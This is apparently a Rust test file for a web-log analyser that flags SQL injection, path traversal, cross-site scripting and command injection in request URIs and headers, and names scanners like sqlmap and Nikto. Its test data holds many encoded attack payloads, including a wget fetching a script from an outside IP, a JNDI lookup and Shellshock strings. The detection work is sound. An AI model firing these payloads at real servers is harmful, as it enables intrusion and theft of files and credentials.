//! What is an attack, and what is none.

use super::*;
use crate::enrich::patterns::tests::match_as_in_unicode;

fn attacks(uri: &str) -> Vec<&'static str> {
    Attacks::in_target(uri, None).names().collect()
}

fn in_header(value: &str) -> Vec<&'static str> {
    Header::judge(value).attacks.names().collect()
}

#[test]
fn the_patterns_match_as_in_unicode() {
    const WORDS: &[&str] = &[
        "/etc/",
        "passwd",
        "shadow",
        "/proc/self/",
        "environ",
        "boot.ini",
        "win.ini",
        "windows/",
        "php://",
        "filter",
        "<",
        "script",
        ">",
        " ",
        "\t",
        "\"",
        "'",
        "onload",
        "=",
        "img",
        "src",
        "x",
        "javascript:",
        "(",
        "data:text/html",
        "document.",
        "cookie",
        ";",
        "|",
        "`",
        "&&",
        "$(",
        "||",
        "wget",
        "cat",
        "-c",
        "ping",
        "1",
        "echo",
        "/bin/",
        "sh",
        "cmd",
        "/c",
        "${",
        "ifs",
        "}",
        "jndi:",
        "() {",
        ":",
        "class.module.classloader",
        "<?php",
        "_",
        "\n",
    ];
    for patterns in [&SENSITIVE_FILES, &SCRIPTS, &COMMANDS] {
        match_as_in_unicode(patterns, WORDS);
    }
}

#[test]
fn sql_injection_however_encoded() {
    for uri in [
        "/item?id=1%27%20OR%20%271%27=%271",
        "/item?id=1+UNION+SELECT+1,2,3",
        "/item?id=1%2527%2520OR%25201%253D1--",
        "/item?id=1%252527%252520OR%2525201%25253D1--",
        "/item?a=1&b=2&id=1%20AND%20SLEEP(5)",
        "/item/1%27%20or%20%271%27=%271/x",
        "/item/1/**/union/**/select/**/1,2",
        r"/item?id=1\x22 or \x221\x22=\x221",
    ] {
        assert_eq!(attacks(uri), ["sql_injection"], "{uri}");
    }
}

#[test]
fn path_traversal_however_encoded() {
    for uri in [
        "/../../etc/passwd",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/a/%252e%252e%252f%252e%252e%252fsecret",
        "/cgi-bin/.%2e/.%2e/.%2e/x",
        "/icons/.%%32%65/.%%32%65/x",
        "/x/..%5c..%5cwindows%5cwin.ini",
        "/x/..%c0%af..%c0%afy",
        "/view?file=../../../../app.conf",
        "/view?file=/etc/passwd",
        "/view?file=....//....//etc",
        "/view?file=..%255c..%255cboot.ini",
        "/app/..;/..;/manager/html",
        "/view?page=php://filter/convert.base64-encode/resource=index",
    ] {
        assert_eq!(attacks(uri), ["path_traversal"], "{uri}");
    }
}

#[test]
fn scripts_and_commands() {
    for uri in [
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=%22%20onmouseover=%22alert(1)",
        "/?u=javascript:alert(1)",
        "/?q=<img%20src=x%20onerror=alert(1)>",
    ] {
        assert_eq!(attacks(uri), ["cross_site_scripting"], "{uri}");
    }
    for uri in [
        "/?host=127.0.0.1;id",
        "/?host=x%0Acat%20/etc/hostname",
        "/?c=$(whoami)",
        "/?x=a|wget%20http://203.0.113.9/a.sh",
        "/?x=${jndi:ldap://203.0.113.9/a}",
        "/?x=%26%26%20ping%20-c%203%20x",
    ] {
        assert_eq!(attacks(uri), ["command_injection"], "{uri}");
    }
    assert_eq!(in_header("() { :;}; /bin/bash -c id"), ["command_injection"]);
    assert_eq!(in_header("${${lower:j}ndi:ldap://x/a}"), ["command_injection"]);
    assert_eq!(in_header("x' AND SLEEP(5)-- -"), ["sql_injection"]);
}

#[test]
fn benign_requests_are_left_alone() {
    for uri in [
        "/",
        "/images/Insert%20vs%20Crop.png",
        "/report?between=2024-01-01%20AND%202024-12-31",
        "/search?q=update+your+settings+and+set+a+password",
        "/search?q=select+a+gift+from+our+shop",
        "/search?q=O%27Brien",
        "/search?q=what+is+1+%2B+1",
        "/docs/a/../b.html",
        "/go?next=../home",
        "/go?next=https://www.example.com/a?b=c",
        "/search?q=I+have+a+dog;+cat+food",
        "/search?q=if+a+%3C+b",
        "/tag/c%2B%2B",
        "/?utm_source=x&utm_medium=y%20z",
        "/wiki/Caf%C3%A9_(Paris)",
        "/blog/etc/passwd-explained",
    ] {
        assert_eq!(attacks(uri), [""; 0], "{uri}");
    }
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0";
    let referer = "https://search.example/?q=sql+injection+%27+or+1%3D1";
    assert_eq!((in_header(browser), in_header(referer)), (vec![], vec![]));
}

#[test]
fn the_target_is_decoded_in_lower_case() {
    let decoded = |uri: &str| {
        let mut derived = Map::new();
        let fields = Map::from_iter([(CS_URI.to_owned(), Value::from(uri))]).into();
        enrich(&fields, |_| true, &mut derived);
        derived[URI_DECODED].as_str().unwrap().to_owned()
    };
    assert_eq!(decoded("/A%2Fb+c?Q=x+y%2Bz%2525"), "/a/b+c?q=x y+z%");
    assert_eq!(decoded("/%u0041%"), "/a%");
    assert_eq!(decoded("/Plain"), "/plain");
}

#[test]
fn scanners_are_named() {
    let scanner = |agent: &str| Header::judge(agent).scanner;
    assert_eq!(scanner("sqlmap/1.8 (https://sqlmap.org)"), Some("sqlmap"));
    assert_eq!(scanner("Mozilla/5.00 (Nikto/2.5.0)"), Some("nikto"));
    assert_eq!(scanner("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), Some("nmap"));
    assert_eq!(scanner("curl/8.5.0"), None);
}
